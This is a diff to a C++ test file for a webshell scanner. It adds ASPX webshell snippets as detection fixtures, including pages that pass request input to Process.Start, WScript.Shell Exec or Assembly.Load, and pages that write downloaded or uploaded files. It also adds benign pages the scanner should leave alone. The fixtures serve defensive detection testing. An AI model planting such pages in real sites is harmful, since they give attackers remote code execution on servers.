@@ -230,6 +230,46 @@ TEST(WebshellScan, NamesWhatPagesDo) {
       {"<%@ Page Language=\"C#\"%><%Assembly.Load(new WebClient().DownloadData(\"http://x/y\"));%>",
        "ASPX variant backdoor"},
       {"<%@ Page Language=\"C#\"%><%new LosFormatter().Deserialize(Request[\"v\"]);%>", "ASPX variant backdoor"},
+      {"<%@ Page Language=\"Jscript\"%><%var f=new Function(\"x\",Request.Form[\"z\"]);%>", "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%var d=new "
+       "XmlDocument();d.LoadXml(Request[\"x\"]);t.Load(d,XsltSettings.TrustedXslt,r);%>",
+       "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><script runat=server>string D(string s){return s;}</script><%var "
+       "o=a.CreateInstance(D(\"x.y.z\"));o.GetType().GetMethod(D(\"trats\")).Invoke(o,new object[]{Request[\"c\"]});%>",
+       "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%var p=new Process{StartInfo=new ProcessStartInfo{FileName=Request[\"f\"]}};%>",
+       "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><script runat=server>string D(string s){return s;}</script><%var "
+       "w=Activator.CreateInstance(Type.GetTypeFromProgID(\"WScript.Shell\"));w.Exec(Request[\"c\"]);%>",
+       "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%var b=Request.BinaryRead(9);var d=new "
+       "byte[9];d[i]=(byte)(b[i]^k[i]);Assembly.Load(d);%>",
+       "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><script runat=server>byte[] u=new byte[9];Stream o=new MemoryStream();</script><%var "
+       "g=new GZipStream(new "
+       "MemoryStream(Request.BinaryRead(9)),m);g.Read(u,0,9);o.Write(u,0,9);Assembly.Load(o.ToArray());%>",
+       "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%var s=new "
+       "StringBuilder();s.Append(Request.UserAgent);Process.Start(\"cmd\",s.ToString());%>",
+       "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%Page.Controls.Add(ParseControl(Request[\"m\"]));%>", "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\"%><%File.WriteAllBytes(Server.MapPath(Request[\"n\"]),new "
+       "WebClient().DownloadData(Request[\"u\"]));%>",
+       "Suspected dangerous files"},
+      {"<%@ Page Language=\"C#\"%><%f.SaveAs(Request[\"d\"]+\"/\"+Path.GetFileName(f.FileName));%>",
+       "Suspected dangerous files"},
+      {"<%@ Page "
+       "Language=\"C#\"%><%if(Request[\"k\"]!=null)Process.GetProcessById(int.Parse(Request[\"k\"])).Kill();foreach("
+       "var p in Process.GetProcesses())x();%>",
+       "Suspected dangerous files"},
+      {"<%@ Page Language=\"C#\" %><script runat=server>string C { get { return Request[\"c\"]; } }\nTextBox t=new "
+       "TextBox(); void L() { Process.Start(C); }</script>",
+       "ASPX variant backdoor"},
+      {"<%@ Page %><asp:ObjectDataSource TypeName=\"System.Diagnostics.Process, System\" SelectMethod=\"Start\"/>",
+       "Suspected dangerous files"},
+      {"<%@ Page Language=\"C#\" "
+       "Inherits=\"System.Web.UI.Page\"%><%File.WriteAllText(Request[\"p\"],Request[\"c\"]);%>",
+       "Suspected dangerous files"},
       {"<%@ Page Language=\"C#\"%><%File.WriteAllText(Request[\"p\"],Request[\"c\"]);%>", "Suspected dangerous files"},
       {"<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void ProcessRequest(HttpContext x) {\n"
        "x.Response.BinaryWrite(File.ReadAllBytes(x.Request[\"f\"])); } }",
@@ -259,6 +299,13 @@ TEST(WebshellScan, SparesOrdinaryPages) {
       "File.WriteAllText(Server.MapPath(\"~/d/\" + n), t); } }",
       "<%@ Page Language=\"C#\" %><%# Eval(\"a\") %><%=int.Parse(Request[\"a\"])%><%d.Load(Request[\"x\"]);"
       "new Thread(f).Start(Request[\"x\"]);%>",
+      "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void ProcessRequest(HttpContext c) {\n"
+      "var x = new XmlSerializer(typeof(Order)); var o = (Order)x.Deserialize(c.Request.InputStream); } }",
+      "<%@ Page Language=\"C#\" %><%using (var a = new RijndaelManaged()) { var d = a.CreateDecryptor(k, v);\n"
+      "t.Text = e.GetString(d.TransformFinalBlock(Convert.FromBase64String(Request[\"c\"]), 0, 9)); }%>",
+      "<%@ Page Language=\"C#\" %><%f.SaveAs(Server.MapPath(\"~/uploads/\") + f.FileName);\n"
+      "foreach (var i in new DirectoryInfo(Server.MapPath(\"~/gallery\")).GetFiles()) l.Items.Add(i.Name);\n"
+      "if (Request[\"d\"] != null) File.Delete(Path.Combine(Server.MapPath(\"~/gallery\"), Request[\"d\"]));%>",
       "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\nclass U { void ProcessRequest(HttpContext c) {\n"
       "string p = Server.MapPath(c.Request[\"folder\"]) + \"\\\\\";\nc.Request.Files[0].SaveAs(p + f.FileName);\n"
       "GetType().GetMethod(c.Request[\"do\"]).Invoke(this, new object[] { c }); } }",
